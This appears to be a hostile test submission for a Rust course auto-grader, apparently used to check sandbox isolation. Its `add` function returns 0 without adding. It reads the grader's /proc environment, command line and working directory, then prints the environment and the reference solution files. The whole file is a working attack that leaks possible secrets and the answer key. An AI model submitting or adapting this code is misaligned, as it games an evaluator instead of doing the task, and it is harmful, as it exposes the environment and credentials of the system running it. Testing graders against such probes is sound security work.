// Run-time reads through the grader's /proc entries: its environment, command line and working
// directory (the course, with its solutions).
fn add(a: i32, b: i32) -> i32 {
    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:leak_run\n");
    let grader = std::os::unix::process::parent_id();
    let read = |path: String| match std::fs::read(&path) {
        Ok(bytes) => String::from_utf8_lossy(&bytes).replace('\0', "\n"),
        Err(err) => format!("hidden: {err}"),
    };
    if let Err(err) = std::fs::read_dir("/proc") {
        println!("PROC hidden: {err}");
    }
    println!("ENVIRON {}", read(format!("/proc/{grader}/environ")));
    println!("CMDLINE {}", read(format!("/proc/{grader}/cmdline")));
    if let Ok(cwd) = std::fs::read_link(format!("/proc/{grader}/cwd")) {
        println!("CWD {}", cwd.display());
        println!("SOLUTION {}", read(cwd.join("solutions/basics/add.rs").display().to_string()));
    }
    println!("COURSE {}", read("@COURSE@/solutions/basics/add.rs".to_string()));
    let _ = (a, b);
    0
}

fn main() {}
